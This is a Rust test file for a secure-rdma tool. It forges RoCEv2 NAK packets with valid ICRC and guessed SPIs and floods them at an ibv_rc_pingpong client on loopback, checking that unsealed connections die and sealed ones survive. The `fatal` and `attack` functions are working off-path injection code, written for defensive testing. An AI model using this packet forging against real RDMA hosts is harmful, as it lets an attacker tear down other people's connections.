//! Packets that an attacker sends to programs of `secure-rdma run`, off the path, knowing all numbers.

use crate::harness::{Ended, PATIENCE, Program};
use crate::run::is_installed;
use crate::sealed_run::{Host, connected};
use rocev2::icrc::PseudoHeader;
use rocev2::wire::{Aeth, Bth, Headers, NakCode, Opcode, Operation, Syndrome, Transport};
use rocev2::{Psn, Qpn, UDP_PORT};
use rocev2_device::esp::Spi;
use rocev2_device::link::put_icrc;
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread;

/// Ends the attack, also where the test has failed.
struct Stop<'a>(&'a AtomicBool);

impl Drop for Stop<'_> {
    fn drop(&mut self) {
        self.0.store(true, Ordering::Relaxed);
    }
}

/// What `ibv_rc_pingpong` says of one of its ends.
struct Named {
    qpn: Qpn,
    psn: Psn,
}

impl Named {
    fn read(line: &str) -> Self {
        let figure = |name: &str| {
            let (_, rest) = line.split_once(name).unwrap();
            u32::from_str_radix(rest.trim_start().trim_start_matches("0x").split(',').next().unwrap(), 16)
                .unwrap()
        };
        Self { qpn: Qpn::new(figure("QPN")).unwrap(), psn: Psn::new(figure("PSN")).unwrap() }
    }
}

/// An answer that ends a connection whose request `number` is under way, as `from` would send it to `victim`.
fn fatal(victim: &Named, number: u32, from: SocketAddr, to: SocketAddr) -> Vec<u8> {
    let opcode = Opcode::Known { transport: Transport::Rc, operation: Operation::Acknowledge };
    let mut headers = Headers::new(Bth::new(opcode, victim.qpn, victim.psn.plus(number)));
    headers.aeth = Some(Aeth { syndrome: Syndrome::Nak(NakCode::RemoteOperational), msn: number });
    let mut packet = vec![0; Headers::MAX_LEN + 4];
    let len = headers.frame(&mut packet, 0).unwrap().len;
    packet.truncate(len + 4);
    let pseudo_header = PseudoHeader::new(from, to).unwrap();
    put_icrc(&mut packet, |packet| pseudo_header.icrc(0, packet));
    packet
}

/// Sends the client of two programs forged packets until it has ended, or for good while it is there. How it ended,
/// and how many were sent.
#[track_caller]
fn attack(is_sealed: bool, rounds: u32, addresses: [&str; 2], port: &str) -> (Ended, u64) {
    let [a, b] = addresses.map(|address| address.parse::<IpAddr>().unwrap());
    let server = Host::first(addresses[0]);
    let other = Host::second(&server, addresses[1]);
    let text = rounds.to_string();
    let program = ["stdbuf", "-oL", "ibv_rc_pingpong", "-g", "0", "-n", &text, "-s", "64", "-p", port];
    let start = |host: &Host, program: &[&str]| -> Program {
        if is_sealed { host.sealed(&[], program) } else { host.run(&[], program) }
    };
    let serving = start(&server, &program);
    let whole = [&program[..], &[addresses[0]]].concat();
    let running = connected(|| start(&other, &whole), "remote address");
    let victim = Named::read(&running.says("local address"));
    let (done, sent) = (AtomicBool::new(false), AtomicU64::new(0));
    let ended = thread::scope(|scope| {
        scope.spawn(|| {
            let socket = UdpSocket::bind((a, 0)).unwrap();
            let (from, to) = (socket.local_addr().unwrap(), SocketAddr::new(b, UDP_PORT));
            let slot = victim.qpn.get().to_be_bytes()[1] >> 2;
            for number in (0..rounds).cycle() {
                if done.load(Ordering::Relaxed) {
                    break;
                }
                let mut packet = fatal(&victim, number, from, to);
                // A full socket is no matter.
                let _ = socket.send_to(&packet, to);
                // And as if it were sealed, by some SPI of the victim's process.
                let spi = Spi::for_shared_port(number.wrapping_mul(0x9e37_79b9), slot).number().to_be_bytes();
                packet.splice(..0, [&spi[..], &[0; 60]].concat());
                let _ = socket.send_to(&packet, to);
                sent.fetch_add(2, Ordering::Relaxed);
            }
        });
        let _stop = Stop(&done);
        running.ends_within(4 * PATIENCE)
    });
    drop(serving);
    (ended, sent.into_inner())
}

#[test]
fn forged_packets_end_a_program_in_clear_and_not_one_that_is_sealed() {
    if !is_installed("ibv_rc_pingpong", "ibverbs-utils") {
        return;
    }
    // The programs may be done before the attacker has had its turn: then once more, for longer.
    for rounds in [20_000, 80_000, 320_000] {
        let (ended, sent) = attack(true, rounds, ["127.83.90.20", "127.83.90.21"], "18607");
        // A flood fills the receiver's buffer, and may so hold genuine packets back for too long. Nothing else ends it.
        let flooded = ended.err.contains("transport retry counter exceeded");
        assert!(ended.status.success() || flooded, "{sent} packets: {ended:?}");
        if sent > 10_000 {
            break;
        }
        assert!(rounds < 320_000, "{sent} packets");
    }
    for rounds in [200_000, 800_000] {
        let (ended, sent) = attack(false, rounds, ["127.83.90.22", "127.83.90.23"], "18608");
        if ended.err.contains("remote operation error") {
            break;
        }
        assert!(ended.status.success() && rounds < 800_000, "{sent} packets: {ended:?}");
    }
}
